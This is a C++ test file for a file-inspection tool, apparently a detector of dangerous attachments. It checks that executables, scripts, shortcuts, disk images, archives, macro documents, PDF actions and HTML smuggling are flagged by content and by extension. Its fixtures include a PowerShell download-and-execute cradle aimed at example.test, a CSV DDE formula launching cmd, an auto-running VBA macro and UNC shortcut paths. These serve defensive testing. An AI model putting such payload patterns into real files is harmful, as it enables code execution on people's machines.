// Every kind of file that carries or leads to a program: named by content or by name, whole and cut
// off.
#include "support/image_builder.h"
#include "support/inspected.h"
#include "support/lnk_builder.h"
#include "support/locked_office.h"
#include "support/mail_builder.h"
#include "support/ooxml_builder.h"
#include "support/tnef_builder.h"
#include "support/vba_builder.h"
#include "support/written_archive.h"

#include <catch2/catch.hpp>

using namespace keneki;
using namespace keneki::test;
using evidence::Finding;
using evidence::NotInspected;
using namespace std::string_literals;

namespace {

struct Kind {
    std::string name, content;
    Finding::Id id;
};

std::string dll() {
    std::string out = "MZ\x90\0"s + std::string(56, '\0') + "\x40\0\0\0"s + "PE\0\0"s;
    out += std::string(18, '\0') + "\0\x20"s + std::string(100, '\0');
    return out;
}

std::string msi() {
    return CfbBuilder()
        .clsid("\x84\x10\x0C\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46"s)
        .stream("x", "x")
        .build();
}

std::string macro_project() {
    CfbBuilder cfb;
    return add_vba(cfb, "Sub AutoOpen()\r\nShell \"x\"\r\nEnd Sub").build();
}

std::string onenote() {
    std::string out("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", 16);
    out += std::string(100, '\0');
    out += "\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC";
    put32(out, 16);
    return out + std::string(16, '\0') + "@echo off\r\nx\r\n\0\0"s;
}

std::string jar() {
    return ZipBuilder().add("META-INF/MANIFEST.MF", "x").add("A.class", "\xCA\xFE").build();
}

/// By what they hold.
std::vector<Kind> by_content() {
    return {
        {"a", dll(), Finding::EXECUTABLE},
        {"a", msi(), Finding::EXECUTABLE},
        {"a", jar(), Finding::EXECUTABLE},
        {"a", ZipBuilder().add("AppxManifest.xml", "x").build(), Finding::EXECUTABLE},
        {"a", ZipBuilder().add("AppxMetadata/AppxBundleManifest.xml", "x").build(),
         Finding::EXECUTABLE},
        {"a", ZipBuilder().add("AndroidManifest.xml", "x").build(), Finding::EXECUTABLE},
        {"a",
         "\x7f"
         "ELF\2\1\1",
         Finding::EXECUTABLE},
        {"a", "ITSF\3\0\0\0"s, Finding::SCRIPT},
        {"a", "<html><hta:application id=x><script>x()</script></html>", Finding::SCRIPT},
        {"a", "<job id=\"a\"><script language=\"VBScript\">x</script></job>", Finding::SCRIPT},
        {"a",
         "<?xml version=\"1.0\"?><package><job><script language=\"JScript\">x</script></job>"
         "</package>",
         Finding::SCRIPT},
        {"a", "var s = new ActiveXObject('WScript.Shell');\ns.run('calc');", Finding::SCRIPT},
        {"a", "Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n",
         Finding::SCRIPT},
        {"a", "@echo off\r\nstart calc\r\n", Finding::SCRIPT},
        {"a",
         "$c = New-Object Net.WebClient; Invoke-Expression "
         "$c.DownloadString('http://example.test')",
         Finding::SCRIPT},
        {"a", "#@~^AAAA==abc", Finding::SCRIPT},
        {"a", LnkBuilder().target("cmd.exe").arguments("/c x").build(), Finding::SHORTCUT},
        {"a", "[InternetShortcut]\r\nURL=file://192.0.2.1/a\r\n", Finding::INTERNET_SHORTCUT},
        {"a",
         "<?xml version=\"1.0\"?><libraryDescription><url>\\\\192.0.2.1\\a</url>"
         "</libraryDescription>",
         Finding::INTERNET_SHORTCUT},
        {"a",
         "<persistedQuery><scope><include path=\"\\\\192.0.2.1\\a\"/></scope></persistedQuery>",
         Finding::INTERNET_SHORTCUT},
        {"a",
         "<?xml version=\"1.0\"?><searchConnectorDescription><simpleLocation><url>"
         "\\\\192.0.2.1\\a</url></simpleLocation></searchConnectorDescription>",
         Finding::INTERNET_SHORTCUT},
        {"a", "WEB\r\n1\r\nhttp://example.test/a.dat\r\n", Finding::INTERNET_SHORTCUT},
        {"a", "ID;PWXL;N;E\nO;L;D;V0;K47;G100 0.001;E\nE\n", Finding::MACRO_EXCEL4},
        {"a.csv", "x\n=cmd|'/c calc'!A1\n", Finding::OFFICE_DDE},
        {"a", onenote(), Finding::ONENOTE},
        {"a.html",
         "<html><script>var b = new Blob([atob('UEsDBAoAAAAA')]); "
         "URL.createObjectURL(b);</script></html>",
         Finding::HTML_SMUGGLING},
        {"a", "<svg onload=\"x()\"/>", Finding::SVG_SCRIPT},
        {"a", "%PDF-1.4 1 0 obj << /Type/Action/S/Launch >>", Finding::PDF_LAUNCH},
        {"a", "%PDF-1.4 1 0 obj <</OpenAction <</S /JavaScript>> >>", Finding::PDF_ACTION},
        {"a", macro_project(), Finding::MACRO_AUTO_EXEC},
        {"a",
         OoxmlBuilder()
             .part("word/vbaProject.bin", macro_project())
             .relationship("attachedTemplate", "http://example.test/a.dotm")
             .build(),
         Finding::MACRO_AUTO_EXEC},
        {"a", "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", Finding::RTF_OBJECT},
        {"a", iso({{"a.exe", dll()}}, false), Finding::DISK_IMAGE},
        {"a", udf({{"a.exe", dll()}}), Finding::DISK_IMAGE},
        {"a", ntfs({{"a.exe", dll()}}), Finding::DISK_IMAGE},
        {"a", fixed_vhd(fat12({{"a.exe", dll()}})), Finding::DISK_IMAGE},
        {"a", dynamic_vhd(ntfs({{"a.exe", dll()}})), Finding::DISK_IMAGE},
        {"a", "vhdxfile" + std::string(300'000, '\0'), Finding::DISK_IMAGE},
        {"a", vhdx(ntfs({{"a.exe", dll()}})), Finding::DISK_IMAGE},
        {"a", "MSWIM\0\0\0"s + std::string(600, 'x'), Finding::DISK_IMAGE},
        {"a", "QFI\xFB\0\0\0\3"s, Finding::DISK_IMAGE},
        {"a", "KDMV\1\0\0\0"s, Finding::DISK_IMAGE},
        {"a", TnefBuilder().attach("a.exe", dll()).build(), Finding::TNEF},
        {"a", ZipBuilder().add("a.exe", dll()).build(), Finding::ARCHIVE_DANGEROUS_MEMBER},
        {"a", seven_zip({{"a.exe", dll()}}), Finding::ARCHIVE_DANGEROUS_MEMBER},
        {"a", rar4({{"a.exe", dll()}}), Finding::ARCHIVE_DANGEROUS_MEMBER},
        {"a", rar5({{"a.exe", dll()}}), Finding::ARCHIVE_DANGEROUS_MEMBER},
        {"a", lzh({{"a.exe", dll()}}), Finding::ARCHIVE_DANGEROUS_MEMBER},
        {"a", cab({{"a.exe", dll()}}), Finding::ARCHIVE_DANGEROUS_MEMBER},
        {"a", written_archive(ARCHIVE_FORMAT_TAR_USTAR, 0, {{"a.exe", dll()}}),
         Finding::ARCHIVE_DANGEROUS_MEMBER},
        {"a", packed_stream(ARCHIVE_FILTER_GZIP, dll()), Finding::ARCHIVE_DANGEROUS_MEMBER},
        {"a", packed_stream(ARCHIVE_FILTER_BZIP2, dll()), Finding::ARCHIVE_DANGEROUS_MEMBER},
        {"a", packed_stream(ARCHIVE_FILTER_XZ, dll()), Finding::ARCHIVE_DANGEROUS_MEMBER},
    };
}

} // namespace

TEST_CASE("what carries a program is told by what it holds", "[inspect][kinds]") {
    for (const Kind& kind : by_content()) {
        const auto evidence = inspected(kind.name, kind.content);
        CAPTURE(Finding::Id_Name(kind.id), kind.content.substr(0, 60), evidence.parts(0).type(),
                words(evidence));
        CHECK(has(evidence, kind.id, 1));
    }
}

TEST_CASE("what carries a program is told by its name", "[inspect][kinds]") {
    struct Names {
        Finding::Id id;
        std::vector<std::string> extensions;
    };
    const std::vector<Names> by_name{
        {Finding::SCRIPT,
         {"js", "jse", "vbs", "vbe", "wsf", "wsh", "wsc", "sct", "hta", "bat", "cmd", "ps1", "psm1",
          "reg", "msc", "chm", "hlp"}},
        {Finding::EXECUTABLE,
         {"exe", "com", "scr", "pif", "cpl", "dll", "xll", "msi", "msp", "jar", "appx", "msix",
          "application", "gadget"}},
        {Finding::INTERNET_SHORTCUT,
         {"url", "library-ms", "search-ms", "searchconnector-ms", "iqy", "rdp", "settingcontent-ms",
          "appref-ms", "scf", "website"}},
        {Finding::DISK_IMAGE, {"iso", "img", "udf", "vhd", "vhdx", "wim"}},
        {Finding::MACRO_EXTENSION,
         {"docm", "dotm", "xlsm", "xltm", "xlam", "pptm", "ppsm", "potm", "ppam"}},
    };
    for (const Names& kind : by_name)
        for (const std::string& extension : kind.extensions) {
            const auto evidence = inspected("a." + extension, "\1\2\3\0noise"s);
            CAPTURE(extension, words(evidence));
            CHECK(has(evidence, kind.id, 1));
            if (kind.id != Finding::MACRO_EXTENSION)
                CHECK(has(evidence, Finding::NAME_DANGEROUS_EXTENSION, 1));
            // Where the content cannot be read at all, the name remains.
            const auto locked = inspected("a.zip", ZipBuilder()
                                                       .add({.name = "a." + extension,
                                                             .data = "x",
                                                             .encrypted = true,
                                                             .local_name = {}})
                                                       .build());
            CAPTURE(words(locked));
            CHECK((has(locked, kind.id, 2) || has(locked, Finding::NAME_DANGEROUS_EXTENSION, 2)));
        }
}

TEST_CASE("every kind, cut off anywhere, ends and breaks nothing", "[inspect][kinds][limits]") {
    for (const Kind& kind : by_content()) {
        // Images are long, and of most of it there is nothing to be read.
        const std::size_t step = kind.content.size() > 65'536 ? kind.content.size() / 1'024 : 64;
        for (std::size_t size = 64; size < kind.content.size(); size += step) {
            const auto evidence = inspected(kind.name, kind.content.substr(0, size));
            CAPTURE(Finding::Id_Name(kind.id), size, words(evidence));
            CHECK_FALSE(has(evidence, Finding::INSPECTION_FAILED));
            const std::string& type = evidence.parts(0).type();
            // A beginning of a text is a text; of anything else it is said that it was not seen.
            const bool whole =
                type == "text" || type == "html" || type == "xml" || type == "script";
            CHECK((whole || evidence.findings_size() > 0 || evidence.not_inspected_size() > 0 ||
                   type == "unknown"));
        }
    }
}

TEST_CASE("mails, web archives and invitations cut off anywhere tell what is left of them",
          "[inspect][kinds][limits]") {
    const std::string mail = MailBuilder()
                                 .from("a@example.jp")
                                 .subject("inner")
                                 .text("hello")
                                 .attach("a.exe", "application/octet-stream", dll())
                                 .attach("b.doc", "application/msword", macro_project())
                                 .build();
    const std::string page =
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n"
        "Content-Location: file:///C:/a.htm\r\nContent-Type: text/html\r\n\r\n<html>x</html>\r\n"
        "--b\r\nContent-Location: file:///C:/a_files/b.exe\r\nContent-Type: "
        "application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
        base64(dll()) + "\r\n--b--\r\n";
    const std::string invitation =
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;FILENAME=a.exe:" +
        base64(dll(), "\r\n ") + "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    for (const auto& [name, content] :
         {std::pair{"a.eml"s, mail}, std::pair{"a.mht"s, page}, std::pair{"a.ics"s, invitation}})
        for (std::size_t size = 64; size < content.size() + 64; size += 64) {
            const auto evidence = inspected(name, content.substr(0, size));
            CAPTURE(name, size, words(evidence));
            CHECK_FALSE(has(evidence, Finding::INSPECTION_FAILED));
            // From the first bytes of the program on it is one.
            if (size > content.find("TVqQ") + 4) CHECK(has(evidence, Finding::EXECUTABLE));
            if (size >= content.size() && name == "a.eml")
                CHECK(has(evidence, Finding::MACRO_AUTO_EXEC));
        }
}

TEST_CASE("images that are named only are not clean", "[inspect][kinds][image]") {
    std::string ext(65'536, '\0');
    put_at(ext, 1'024, le32(16) + le32(64));
    put_at(ext, 1'024 + 56, "\x53\xEF\1\0"s);
    std::string exfat(65'536, '\0');
    put_at(exfat, 0,
           "\xEB\x76\x90"
           "EXFAT   ");
    std::string hfs(65'536, '\0');
    put_at(hfs, 1'024, "H+\0\4"s);
    std::string apple(65'536, 'x');
    put_at(apple, apple.size() - 512, "koly\0\0\0\4"s);
    std::string child = dynamic_vhd(ntfs({{"a.txt", "hello"}}));
    for (const std::size_t footer : {std::size_t{0}, child.size() - 512})
        put_at(child, footer + 60, be32(4));
    std::string two = partitioned(fat12({{"a.txt", "hello"}}));
    put_at(two, 462, "\0\0\0\0\x83\0\0\0"s + le32(1) + le32(3));
    put_at(two, 512, std::string(600, 'x'));
    for (const std::string& content :
         {ext, exfat, hfs, apple, child, two, "MSWIM\0\0\0"s + std::string(600, 'x'),
          "QFI\xFB\0\0\0\3"s, "KDMV\1\0\0\0"s}) {
        const auto evidence = inspected("a", content);
        CAPTURE(evidence.parts(0).type(), words(evidence));
        CHECK(has(evidence, Finding::DISK_IMAGE, 1));
        CHECK(unread(evidence, NotInspected::UNSUPPORTED));
    }
    // A partition that nobody used is nothing.
    std::string unused = partitioned(fat12({{"a.txt", "hello"}}));
    put_at(unused, 462, "\0\0\0\0\x83\0\0\0"s + le32(1) + le32(3));
    CHECK(inspected("a", unused).not_inspected_size() == 0);
    // The mark of ext alone, two bytes, is none.
    std::string noise(65'536, '\xFF');
    put_at(noise, 1'024 + 56, "\x53\xEF");
    CHECK_FALSE(has(inspected("a", noise), Finding::DISK_IMAGE));
}
